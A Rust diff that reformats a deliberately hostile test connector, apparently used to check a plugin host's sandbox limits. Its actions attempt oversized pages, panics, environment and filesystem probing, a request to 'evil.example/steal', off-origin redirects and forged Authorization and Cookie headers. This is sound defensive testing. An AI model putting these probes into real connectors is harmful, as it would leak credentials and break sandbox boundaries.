@@ -13,14 +13,20 @@ impl Connector for Hostile {
             id: "hostile".into(),
             name: "Hostile test connector".into(),
             version: "0.0.1".into(),
-            config: vec![
-                field("host", false),
-                field("token", true),
-            ],
-            auth: AuthScheme::Bearer(BearerAuth { token_field: "token".into() }),
+            config: vec![field("host", false), field("token", true)],
+            auth: AuthScheme::Bearer(BearerAuth {
+                token_field: "token".into(),
+            }),
             origins: vec!["https://{host}".into()],
-            rate_policy: RatePolicy { buckets: vec![], max_concurrent: 8 },
-            resources: vec![ResourceInfo { kind: ResourceKind::Devices, scope: ResourceScope::TopLevel, supports_get: false }],
+            rate_policy: RatePolicy {
+                buckets: vec![],
+                max_concurrent: 8,
+            },
+            resources: vec![ResourceInfo {
+                kind: ResourceKind::Devices,
+                scope: ResourceScope::TopLevel,
+                supports_get: false,
+            }],
             actions: vec![],
             device_url_template: None,
         }
@@ -30,17 +36,30 @@ impl Connector for Hostile {
         Ok(())
     }
 
-    fn list(_: &Context, _: ResourceKind, cursor: Option<String>, _: ListOptions) -> Result<Page, ConnectorError> {
+    fn list(
+        _: &Context,
+        _: ResourceKind,
+        cursor: Option<String>,
+        _: ListOptions,
+    ) -> Result<Page, ConnectorError> {
         let records = if cursor.as_deref() == Some("huge") {
             // 80 records of 1 MiB each: over the host's 64 MiB page limit.
             (0..80).map(|i| huge_device(i, 1 << 20)).collect()
         } else {
             vec![]
         };
-        Ok(Page { records, next_cursor: None, errors: vec![] })
+        Ok(Page {
+            records,
+            next_cursor: None,
+            errors: vec![],
+        })
     }
 
-    fn action(ctx: &Context, _: String, request: ActionRequest) -> Result<ActionOutcome, ConnectorError> {
+    fn action(
+        ctx: &Context,
+        _: String,
+        request: ActionRequest,
+    ) -> Result<ActionOutcome, ConnectorError> {
         let ActionKind::Vendor(name) = request.kind else {
             return Err(ConnectorError::Unsupported("only vendor actions".into()));
         };
@@ -61,7 +80,11 @@ impl Connector for Hostile {
             }
             "trap" => panic!("deliberate trap"),
             "recurse" => format!("{}", recurse(std::hint::black_box(1))),
-            "env" => format!("env={} args={}", std::env::vars().count(), std::env::args().count()),
+            "env" => format!(
+                "env={} args={}",
+                std::env::vars().count(),
+                std::env::args().count()
+            ),
             "file" => match std::fs::read_dir("/") {
                 Ok(d) => format!("file: listed {} entries", d.count()),
                 Err(e) => format!("denied: {e}"),
@@ -76,19 +99,40 @@ impl Connector for Hostile {
             },
             "undeclared" => send(raw::Method::Get, "https://evil.example/steal", vec![]),
             "redirect" => send(raw::Method::Get, &format!("{origin}/redirect-out"), vec![]),
-            "set-auth" => send(raw::Method::Get, &format!("{origin}/ok"), vec![("Authorization", "Bearer stolen")]),
-            "set-cookie" => send(raw::Method::Get, &format!("{origin}/ok"), vec![("Cookie", "session=1")]),
+            "set-auth" => send(
+                raw::Method::Get,
+                &format!("{origin}/ok"),
+                vec![("Authorization", "Bearer stolen")],
+            ),
+            "set-cookie" => send(
+                raw::Method::Get,
+                &format!("{origin}/ok"),
+                vec![("Cookie", "session=1")],
+            ),
             "ok" => send(raw::Method::Get, &format!("{origin}/ok"), vec![]),
             "slow-429" => send(raw::Method::Get, &format!("{origin}/slow-429"), vec![]),
             "429-forever" => send(raw::Method::Get, &format!("{origin}/429-forever"), vec![]),
             other => return Err(ConnectorError::Unsupported(other.into())),
         };
-        Ok(ActionOutcome { status: ActionStatus::Completed, command_id: None, message: Some(message), values: vec![] })
+        Ok(ActionOutcome {
+            status: ActionStatus::Completed,
+            command_id: None,
+            message: Some(message),
+            values: vec![],
+        })
     }
 }
 
 fn field(key: &str, secret: bool) -> ConfigField {
-    ConfigField { key: key.into(), label: key.into(), help: None, required: true, secret, allowed_values: vec![], default_value: None }
+    ConfigField {
+        key: key.into(),
+        label: key.into(),
+        help: None,
+        required: true,
+        secret,
+        allowed_values: vec![],
+        default_value: None,
+    }
 }
 
 /// Sends a raw request and reports `ok:STATUS` or `err:ERROR`.
@@ -96,7 +140,13 @@ fn send(method: raw::Method, url: &str, headers: Vec<(&str, &str)>) -> String {
     let req = raw::Request {
         method,
         url: url.into(),
-        headers: headers.into_iter().map(|(n, v)| raw::Header { name: n.into(), value: v.into() }).collect(),
+        headers: headers
+            .into_iter()
+            .map(|(n, v)| raw::Header {
+                name: n.into(),
+                value: v.into(),
+            })
+            .collect(),
         body: None,
     };
     match raw::send(&req, None) {
